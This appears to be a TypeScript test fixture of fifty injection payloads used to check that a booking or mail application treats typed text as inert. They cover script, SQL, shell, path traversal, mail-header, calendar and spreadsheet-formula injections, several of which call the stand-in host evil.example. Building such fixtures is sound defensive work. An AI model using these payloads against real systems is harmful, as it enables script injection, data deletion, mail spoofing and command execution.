/** What somebody types who means harm, or is unlucky. */
export interface Payload {
  readonly what: string;
  readonly text: string;
  /** Where it is refused, by rule. Default nowhere: it is taken, and inert. */
  readonly refused?: 'as a name' | 'anywhere';
}

const HOST = 'evil.example';

/** Fifty, each for a way out of what is only text: into HTML, headers, calendars, tables, shells, or another reading order. */
export const payloads: readonly Payload[] = [
  { what: 'a script', text: '<script>alert(1)</script>' },
  { what: 'a script that ends an attribute', text: '"><script>alert(1)</script>' },
  { what: 'a script that ends a title', text: '</title><script>alert(1)</script>' },
  { what: 'a script that ends a text area', text: '</textarea><script>alert(1)</script>' },
  { what: 'a script that ends a comment', text: '--><script>alert(1)</script><!--' },
  { what: 'a script for one mail reader', text: '<!--[if mso]><script>alert(1)</script><![endif]-->' },
  { what: 'a script in a CDATA section', text: '<![CDATA[<script>alert(1)</script>]]>' },
  { what: 'a script from elsewhere', text: `<script src=//${HOST}/x.js></script>` },
  { what: 'an image that fails', text: '<img src=x onerror=alert(1)>' },
  { what: 'an image that is fetched', text: `<img src=//${HOST}/pixel.gif width=1>` },
  { what: 'a drawing that loads', text: '<svg/onload=alert(1)>' },
  { what: 'a handler that ends an attribute', text: `' autofocus onfocus=alert(1) x='` },
  { what: 'a frame', text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { what: 'a form', text: '<form action="javascript:alert(1)"><button>Go</button></form>' },
  { what: 'a link to a script', text: '<a href="javascript:alert(1)">Press</a>' },
  { what: 'a script’s address', text: 'javascript:alert(1)' },
  { what: 'a style sheet', text: `<style>@import url(//${HOST}/x)</style>` },
  { what: 'another base', text: `<base href=//${HOST}/>` },
  { what: 'a page that goes elsewhere', text: `<meta http-equiv=refresh content="0;url=//${HOST}">` },
  {
    what: 'markup that changes when it is read twice',
    text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { what: 'what is escaped already', text: '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;' },
  { what: 'entities by number', text: '&#60;img src=x onerror=alert(1)&#62;' },
  { what: 'a template of a page’s', text: `{{constructor.constructor('alert(1)')()}}` },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody typed
  { what: 'a template of a server’s', text: '${7*7} <%= 7*7 %> #{7*7}' },
  { what: 'a query', text: `'; DROP TABLE bookings; --` },
  { what: 'an operator', text: '{"$ne": null}' },
  { what: 'a shell’s command', text: '$(touch /tmp/owned) `id` | cat' },
  { what: 'a way up', text: '../../../../etc/passwd' },
  { what: 'a further header', text: `Ann\r\nBcc: all@${HOST}`, refused: 'as a name' },
  { what: 'a header after a line feed', text: `Ann\nX-Evil: 1\nSubject: Won`, refused: 'as a name' },
  { what: 'a header after a line separator', text: `Ann\u2028Bcc: all@${HOST}`, refused: 'anywhere' },
  { what: 'an encoded line break', text: `Ann%0d%0aBcc: all@${HOST}` },
  { what: 'an encoded word', text: '=?utf-8?Q?Ann=0D=0ABcc:_all=40evil=2Eexample?=' },
  { what: 'a second recipient', text: `Ann" <all@${HOST}>, "Eve` },
  { what: 'a group of recipients', text: `Ann: eve@${HOST}, all@${HOST};` },
  {
    what: 'a part of its own',
    text: '\r\n----_NmP\r\nContent-Type: text/html\r\n\r\n<b>Won</b>\r\n----_NmP--',
    refused: 'as a name',
  },
  { what: 'the end of a mail', text: `Hello\r\n.\r\nMAIL FROM:<x@${HOST}>`, refused: 'as a name' },
  { what: 'an event', text: 'BEGIN:VEVENT' },
  {
    what: 'a second event',
    text: 'Ann\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Won\r\nEND:VEVENT',
    refused: 'as a name',
  },
  { what: 'what a calendar escapes', text: String.raw`Ann;X-EVIL=1:2,3\n\N\\;\,"^n` },
  { what: 'a further guest', text: String.raw`Ann\nATTENDEE;CN="Eve":mailto:all@` + HOST },
  { what: 'a formula', text: `=HYPERLINK("//${HOST}","Press")` },
  { what: 'a formula that starts a program', text: `+44;cmd|' /C calc'!A0` },
  { what: 'a formula behind an at sign', text: '@SUM(1+1)*-2' },
  { what: 'a name that turns round', text: 'Ann\u202Egpj.exe', refused: 'anywhere' },
  { what: 'half a character', text: 'Ann\ud800', refused: 'anywhere' },
  { what: 'text from right to left', text: 'مرحبا <b>שלום</b> \u200FAnn' },
  { what: 'characters that nobody sees', text: 'A\u200Bn\u200Dn\u00AD\uFEFF O' },
  { what: 'a word without an end', text: `${'W\u0301\u0302\u0303'.repeat(25)}` },
  { what: 'a name that a program knows', text: '__proto__ constructor null undefined NaN' },
];
